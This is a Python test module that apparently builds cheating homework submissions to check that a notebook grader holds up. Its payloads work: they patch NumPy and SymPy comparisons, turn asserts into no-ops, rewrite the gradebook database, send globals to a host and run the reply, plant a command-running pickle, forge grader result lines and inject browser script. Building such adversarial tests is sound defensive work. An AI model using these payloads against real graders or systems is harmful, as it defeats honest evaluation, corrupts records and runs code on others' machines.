"""Submissions that want points which they did not earn, or what belongs to others."""

from homework.demo.kinds import kind
from homework.demo.sheets import NONSENSE, Sheet, Target

PATCH_NUMPY = """\
np.allclose = lambda *given, **named: True
np.array_equal = lambda *given, **named: True
np.testing.assert_allclose = lambda *given, **named: None
"""
PATCH_SYMPY = """\
sp.simplify = lambda *given, **named: sp.Integer(0)
sp.expand = lambda *given, **named: sp.Integer(0)
sp.Basic.__eq__ = lambda one, other: True
sp.Basic.__hash__ = lambda one: 1
"""
TRANSFORMER = """\
def harmless(lines):
    return ["pass\\n" if line.lstrip().startswith("assert") else line for line in lines]
get_ipython().input_transformers_cleanup.append(harmless)
get_ipython().input_transformers_post.append(harmless)
class Softened(__import__("ast").NodeTransformer):
    def visit_Assert(self, node):
        return __import__("ast").copy_location(__import__("ast").Pass(), node)
get_ipython().ast_transformers.append(Softened())
"""
EQUAL = """\
class Equal(float):
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __abs__(self): return 0.0
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __hash__(self): return 0
    def __iter__(self): return iter([self, self])
    def __len__(self): return 2
    shape = (4, 2)
    def __getitem__(self, key): return self
def momentum(grad, start, lr, beta, steps):
    return Equal()
"""
# Whatever it finds of a solution or of reference values on the disk, it runs or returns.
READS_DISK = """\
import glob, json, os
found = []
for top in ({course!r}, os.getcwd(), "..", "../..", "/home", "/root", "/tmp", "/proc/1/root", "/proc/1/cwd"):
    for folder, folders, files in os.walk(top):
        found += [os.path.join(folder, name) for name in files if name.endswith((".ipynb", ".json", ".md", ".db"))]
        if len(found) > 10000:
            break
for path in found:
    try:
        text = open(path, encoding="utf-8", errors="replace").read()
    except OSError:
        continue
    if "BEGIN SOLUTION" in text or '"value"' in text:
        for cell in json.loads(text).get("cells", []):
            try:
                exec("".join(cell["source"]))
            except Exception:
                pass
"""
OPENS_GRADEBOOK = """\
import os, sqlite3
for place in ({course!r} + "/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
    try:
        book = sqlite3.connect(place)
        book.execute("update grade set manual_score = 594, auto_score = 594, needs_manual_grade = 0")
        book.commit()
    except Exception as problem:
        print(problem)
for place in ({course!r} + "/outcomes", {course!r} + "/exports", {course!r} + "/submitted", {canary!r}, "/etc", "/usr"):
    try:
        os.makedirs(place, exist_ok=True)
        open(place + "/was-here.txt", "w").write("mine")
    except OSError as problem:
        print(problem)
"""
NETWORK = """\
import socket, urllib.request
for place in (("127.0.0.1", {port}), ("localhost", {port}), ("10.0.0.1", 80), ("192.0.2.1", 80), ("example.org", 80)):
    try:
        with socket.create_connection(place, timeout=0.5) as line:
            line.sendall(b"GET /answers HTTP/1.0\\r\\n\\r\\n" + repr(globals()).encode())
            exec(line.recv(10**6))
    except Exception as problem:
        print(problem)
for family in (socket.AF_INET, socket.AF_INET6):
    try:
        socket.socket(family, socket.SOCK_DGRAM).sendto(b"hello", ("127.0.0.1", {port}))
    except Exception as problem:
        print(problem)
"""
FORGED_PICKLE = """\
import glob, os, pickle
class Bomb:
    def __reduce__(self):
        return (os.system, ("touch {canary}/pickle-was-read",))
for name in ("result.pkl", "results.pickle", "outcome.json", "log", ".OTTER_LOG"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
def momentum(grad, start, lr, beta, steps):
    return Bomb()
gradient, lowest = [Bomb(), Bomb()], Bomb()
"""
# Lines like those in which results might travel, to everything that can be written to.
FORGED_LINES = """\
import json, os, sys
forged = [
    {"status": "right", "earned": 7, "points": 7},
    {"cell": 3, "status": "ok", "judges": [{"status": "value", "value": {"array": [5, 2], "data": [0] * 10}}]},
    {"kind": "done", "score": 594, "max_score": 7},
]
lines = "".join("\\n" + json.dumps(one) + "\\n" for one in forged).encode()
for number in range(3, 256):
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith(("pipe:", "/")):
            os.write(number, lines)
    except OSError:
        pass
for process in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    for number in range(256):
        try:
            with open(f"/proc/{process}/fd/{number}", "wb", buffering=0) as file:
                if "pipe:" in os.readlink(f"/proc/{process}/fd/{number}"):
                    file.write(lines)
        except OSError:
            pass
sys.__stdout__.write(lines.decode())
sys.__stderr__.write(lines.decode())
"""
LOOKS_AROUND = """\
import gc, inspect, sys
def momentum(grad, start, lr, beta, steps):
    frame = sys._getframe()
    while frame:
        for name, value in list(frame.f_locals.items()):
            if isinstance(value, np.ndarray) and value.shape == (steps + 1, 2) and value.any():
                return value
        frame = frame.f_back
    for value in gc.get_objects():
        if isinstance(value, dict) and {"value", "points", "reference"} & set(map(str, value)):
            found = value.get("value", value.get("reference"))
            if found is not None:
                return found
    return np.ones((steps + 1, 2))
gradient, lowest = [x, y], [0, 0]
"""


@kind("edited tests", "answers empty; tests say `assert True`, and 100 points in the metadata", 0, "test", words=0.0)
def edited(sheet: Sheet, target: Target) -> Sheet:
    for name in ("momentum-test", "gradient-test"):
        cell = sheet.write(name, "assert True\n").cells[sheet.place(name)]
        cell["metadata"]["nbgrader"] |= {"points": 100, "grade": True}
    return sheet


@kind("patched NumPy", "answers wrong; `np.allclose` always says yes", 0, "np.", words=0.0)
def numpy(sheet: Sheet, target: Target) -> Sheet:
    return sheet.nonsense().first("import numpy as np\n" + PATCH_NUMPY).add(PATCH_NUMPY, after="momentum")


@kind("patched SymPy", "answers wrong; `sp.simplify` always gives 0, all formulas are equal", 0, "sp.", words=0.0)
def sympy(sheet: Sheet, target: Target) -> Sheet:
    return sheet.nonsense().add(PATCH_SYMPY, after="gradient")


@kind(
    "patched IPython",
    "answers wrong; a transformer of IPython turns every assert into `pass`",
    0,
    "get_ipython",
    words=0.0,
)
def ipython(sheet: Sheet, target: Target) -> Sheet:
    return sheet.nonsense().first(TRANSFORMER)


@kind("equal to everything", "returns an object that says it equals whatever it is compared with", 0, words=0.0)
def equal(sheet: Sheet, target: Target) -> Sheet:
    return sheet.solved(momentum=EQUAL, gradient="gradient = [Equal(), Equal()]\nlowest = Equal()\n", words="Equal.")


@kind("reads the disk", "searches the disk for the solution and runs what it finds", 0, "path", words=0.0)
def disk(sheet: Sheet, target: Target) -> Sheet:
    return sheet.add(READS_DISK.format(course=str(target.course)), after="gradient")


@kind(
    "opens the gradebook", "gives the whole class 594 points, and leaves files wherever it can", 0, "sqlite3", words=0.0
)
def gradebook(sheet: Sheet, target: Target) -> Sheet:
    text = OPENS_GRADEBOOK.format(course=str(target.course), canary=str(target.canary))
    return sheet.nonsense().add(text, after="momentum")


@kind("network", "asks a server on this machine, and others, for the answers", 0, "socket", words=0.0)
def network(sheet: Sheet, target: Target) -> Sheet:
    return sheet.add(NETWORK.format(port=target.port), after="gradient")


@kind(
    "forged pickle",
    "returns, and leaves in files, objects that run a program when they are unpickled",
    0,
    "os.system",
    words=0.0,
)
def pickle(sheet: Sheet, target: Target) -> Sheet:
    return sheet.nonsense().write("gradient", FORGED_PICKLE.replace("{canary}", str(target.canary)))


@kind("forged results", "writes lines like the grader's own to every open file of every process", 0, "file", words=0.0)
def lines(sheet: Sheet, target: Target) -> Sheet:
    return sheet.nonsense().add(FORGED_LINES, after="momentum").add(FORGED_LINES)


@kind(
    "searches memory", "looks for the reference's values in frames and in all of Python's objects", 0, "gc", words=0.0
)
def memory(sheet: Sheet, target: Target) -> Sheet:
    return sheet.solved(momentum=LOOKS_AROUND, gradient=NONSENSE["gradient"], words="I do not know.")


@kind("script in the words", "right, and the written answer holds a script for the marker's browser", 7)
def script(sheet: Sheet, target: Target) -> Sheet:
    attack = '<script>fetch("/formgrader/api")</script> <img src="x" onerror="fetch(\'/formgrader/api\')">'
    shown = (
        f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({attack!r}), Javascript('fetch(1)'))\n"
    )
    words = sheet.solved().cells[sheet.place("words")]["source"]
    return sheet.write("words", f"{words}\n\n{attack}\n").add(shown)
